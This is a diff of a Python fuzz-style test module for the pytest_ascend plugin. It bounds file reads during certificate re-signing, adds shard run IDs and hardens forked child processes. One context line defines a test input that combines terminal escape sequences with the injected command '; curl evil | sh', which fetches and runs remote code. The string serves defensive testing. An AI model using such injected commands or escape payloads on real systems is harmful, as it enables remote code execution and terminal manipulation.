@@ -36,6 +36,7 @@ from pytest_ascend.golden import Golden, GoldenStore
 from pytest_ascend.golden.files import Made
 from pytest_ascend.runlog.contents import Selection, digest
 from pytest_ascend.runlog.writing import RunLog
+from pytest_ascend.system.untrusted import read_regular
 from pytest_ascend.verdict.summary import summarise
 from tests.unit.certificate import runs
 from tests.unit.environment.test_npu_smi import A2
@@ -46,6 +47,8 @@ ROOT = Path(__file__).resolve().parents[1]
 SECONDS, MEMORY_MIB = 20, 500
 #: Inputs that one child takes, whose memory is then looked at.
 BATCH = 20
+#: Largest file that is signed again: those of 1 GiB and 3 TiB of nothing would harm this process, and no reader.
+_SIGNED_BYTES = 64 << 20
 
 ESCAPES = "\x1b]0;harmed\x07\x1b[2J; curl evil | sh"
 #: Raw JSON for the place of a value.
@@ -142,7 +145,9 @@ def _shards(cases: list[Any]) -> None:
         mine = cases[index - 1 :: 2]
         header = synthetic.header(mine, stack=synthetic.HARDWARE, selection=Selection("subset", f"shard {index}/2"))
         shard = {**whole, "index": index, "selection": {"kind": "full", "reason": ""}}
-        log = RunLog.create(Path(f"part-{index}", "run.jsonl"), replace(header, shard=shard), durable=False)
+        log = RunLog.create(
+            Path(f"part-{index}", "run.jsonl"), replace(header, shard=shard, run_id=f"run-{index}"), durable=False
+        )
         for case in mine:
             log.append(synthetic.passed(case))
         log.finish(summarise(log.contents()).footer(synthetic.FINISHED))
@@ -234,15 +239,15 @@ def _places(value: Any, path: str = "") -> Iterator[tuple[str, Any, Any]]:
 def sign_again(name: str) -> None:
     """Sign a damaged part of the certificate, or the list, as their issuer can; if they can."""
     if name == "list.json":
-        body = json.loads(Path(name).read_bytes())
+        body = json.loads(read_regular(Path(name), _SIGNED_BYTES))
         del body["signature"]
         body["signature"] = signing.sign(runs.KEY, "revocations", _digest(json.dumps(body)))
         Path(name).write_text(json.dumps(body))
         return
     folder = Path("certificate")
-    content = (folder / "certificate.json").read_bytes()
+    content = read_regular(folder / "certificate.json", _SIGNED_BYTES)
     if name != "certificate.json":
-        said, part = json.loads(content), (folder / name).read_bytes()
+        said, part = json.loads(content), read_regular(folder / name, _SIGNED_BYTES)
         said["parts"][name] = {"sha256": sha256(part).hexdigest(), "size_bytes": len(part)}
         said["id"] = package.identity({key: value for key, value in said.items() if key != "id"})
         content = package.encoded(said)
@@ -274,7 +279,7 @@ def findings(seed: int, names: tuple[str, ...] = ()) -> list[str]:
     file = chance.choice(command.files)
     what = damage(Path(file), chance)
     if Path(file).name in command.signed and Path(file).is_file() and chance.random() < 0.7:
-        with contextlib.suppress(ValueError, TypeError, KeyError, AttributeError, RecursionError, OSError):
+        with contextlib.suppress(ValueError, TypeError, KeyError, AttributeError, RecursionError, OSError, MemoryError):
             sign_again(Path(file).name)
     began = time.monotonic()
     code, said = _run(command.line.split())
@@ -334,7 +339,10 @@ def attack(count: int, names: tuple[str, ...], first: int = 0) -> tuple[list[str
     for start in range(first, first + count, BATCH):
         reading, writing = os.pipe()
         if not os.fork():
-            _batch(well, range(start, min(start + BATCH, first + count)), names, writing)
+            try:
+                _batch(well, range(start, min(start + BATCH, first + count)), names, writing)
+            finally:  # whatever it is, it must not go on as if it were the parent
+                os._exit(1)
         os.close(writing)
         with os.fdopen(reading) as pipe:
             lines = [json.loads(line) for line in pipe]
